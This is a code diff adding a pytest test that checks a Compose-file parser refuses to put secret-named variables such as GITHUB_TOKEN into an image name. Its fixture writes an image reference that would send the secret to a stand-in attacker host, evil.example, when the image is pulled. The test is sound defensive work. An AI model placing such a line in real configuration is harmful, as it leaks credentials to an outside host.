@@ -283,6 +283,19 @@ def test_a_compose_variable_without_a_value_is_a_problem() -> None:
     assert "NOWHERE" in entry.problem
 
 
+@pytest.mark.parametrize("name", ["REGISTRY_PASSWORD", "GITHUB_TOKEN", "DB_PASS"])
+def test_no_secret_is_put_into_the_name_of_an_image(name: str) -> None:
+    """Else a file of somebody's could have it sent to a host of theirs."""
+    text = f"services:\n  a:\n    image: ${{{name}}}.evil.example/${{TAG_OF_TOKENS}}\n"
+    [entry] = images_in("compose.yaml", text, {name: "s3cret", "TAG_OF_TOKENS": "1"})
+    assert "called like a secret" in (entry.problem or "")
+    assert "s3cret" not in entry.text
+    assert named(f"services:\n  a:\n    image: x:${{{name}:-1}}\n", **{name: "s"}) == [(3, "x:1")]
+    assert named("services:\n  a:\n    image: x:${TAG_OF_TOKENS}\n", TAG_OF_TOKENS="1") == [
+        (3, "x:1")
+    ]
+
+
 @pytest.mark.parametrize(
     ("written", "image"),
     [
